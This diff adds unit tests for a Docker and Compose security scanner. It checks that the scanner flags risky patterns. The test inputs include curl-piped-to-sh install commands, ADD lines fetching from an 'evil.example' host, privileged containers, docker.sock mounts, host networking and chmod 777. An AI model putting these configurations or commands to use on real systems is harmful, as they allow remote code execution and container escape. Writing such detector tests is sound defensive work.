@@ -0,0 +1,147 @@
+try:
+    from helper.docker_policy import (
+        has_blocking_findings,
+        scan_compose_file,
+        scan_dockerfile,
+    )
+except ImportError:
+    import sys
+    import os
+    sys.path.insert(
+        0, os.path.abspath(
+            os.path.join(
+                os.path.dirname(__file__), '..')))
+    from helper.docker_policy import (
+        has_blocking_findings,
+        scan_compose_file,
+        scan_dockerfile,
+    )
+
+
+def test_safe_dockerfile_has_no_findings():
+    dockerfile = (
+        "FROM python:3.11-slim\n"
+        "WORKDIR /app\n"
+        "COPY . /app\n"
+        "RUN pip install -r requirements.txt\n"
+    )
+    assert scan_dockerfile(dockerfile) == []
+
+
+def test_dockerfile_continuation_lines_report_instruction_line():
+    dockerfile = (
+        "FROM alpine\n"
+        "# curl http://x | sh in a comment is ignored\n"
+        "RUN apk add curl && \\\n"
+        "    # comment inside the instruction\n"
+        "    curl -sSL https://example.com/install.sh | sh\n"
+    )
+    findings = scan_dockerfile(dockerfile)
+    assert [(f.rule_id, f.line) for f in findings] == [("curl-pipe", 3)]
+    assert has_blocking_findings(findings)
+
+
+def test_dockerfile_heredoc_findings_point_at_body_line():
+    dockerfile = (
+        "FROM alpine\n"
+        "RUN <<SCRIPT\n"
+        "set -e\n"
+        "chmod 777 /data\n"
+        "SCRIPT\n"
+        "USER root\n"
+    )
+    findings = scan_dockerfile(dockerfile)
+    assert [(f.rule_id, f.line, f.severity) for f in findings] == [
+        ("chmod-777", 4, "error"),
+        ("user-root", 6, "warning"),
+    ]
+
+
+def test_dockerfile_shift_and_unterminated_heredoc_do_not_hide_instructions():
+    findings = scan_dockerfile(
+        "FROM alpine\n"
+        "RUN echo $((1<<2)) $(( 1 <<2 ))\n"
+        "ADD https://evil.example/x /x\n"
+        "RUN cat <<EOF\n"
+        "ADD https://evil.example/y /y\n"
+    )
+    assert [(f.rule_id, f.line) for f in findings] == [
+        ("add-remote-url", 3),
+        ("add-remote-url", 5),
+    ]
+
+
+def test_dockerfile_add_rule_only_applies_to_add():
+    findings = scan_dockerfile(
+        "FROM alpine\n"
+        "ADD https://example.com/app.tar.gz /app\n"
+        "LABEL url=https://example.com\n"
+    )
+    assert [(f.rule_id, f.line) for f in findings] == [("add-remote-url", 2)]
+
+
+def test_warnings_do_not_block():
+    findings = scan_dockerfile("FROM alpine\nUSER root\n")
+    assert findings and not has_blocking_findings(findings)
+
+
+def test_compose_rules_are_formatting_independent():
+    compose = (
+        "services:\n"
+        "  web:\n"
+        "    image: nginx\n"
+        "    privileged:   yes\n"
+        "    volumes:\n"
+        "      - type: bind\n"
+        "        source: /var/run/docker.sock\n"
+        "        target: /var/run/docker.sock\n"
+    )
+    findings = scan_compose_file(compose)
+    assert [(f.rule_id, f.line) for f in findings] == [
+        ("privileged", 4),
+        ("docker-socket", 5),
+    ]
+
+
+def test_compose_privileged_false_is_allowed():
+    compose = "services:\n  web:\n    image: nginx\n    privileged: false\n"
+    assert scan_compose_file(compose) == []
+
+
+def test_invalid_compose_yaml_is_blocking():
+    findings = scan_compose_file("services:\n  web: [\n")
+    assert [f.rule_id for f in findings] == ["invalid-yaml"]
+    assert has_blocking_findings(findings)
+
+
+def test_compose_merge_keys_are_expanded():
+    compose = (
+        "x-base: &base\n"
+        "  privileged: true\n"
+        "  volumes: [\"/var/run/docker.sock:/var/run/docker.sock\"]\n"
+        "x-net: &net\n"
+        "  network_mode: host\n"
+        "services:\n"
+        "  web:\n"
+        "    <<: [*base, *net]\n"
+        "    image: nginx\n"
+        "  api:\n"
+        "    <<: *base\n"
+        "    privileged: false\n"
+        "    volumes: []\n"
+    )
+    findings = scan_compose_file(compose)
+    assert sorted((f.rule_id, f.line) for f in findings) == [
+        ("docker-socket", 3),
+        ("host-network", 5),
+        ("privileged", 2),
+    ]
+
+
+def test_compose_v1_top_level_services_are_scanned():
+    findings = scan_compose_file(
+        "web:\n"
+        "  image: nginx\n"
+        "  privileged: true\n"
+    )
+    assert [(f.rule_id, f.line) for f in findings] == [("privileged", 3)]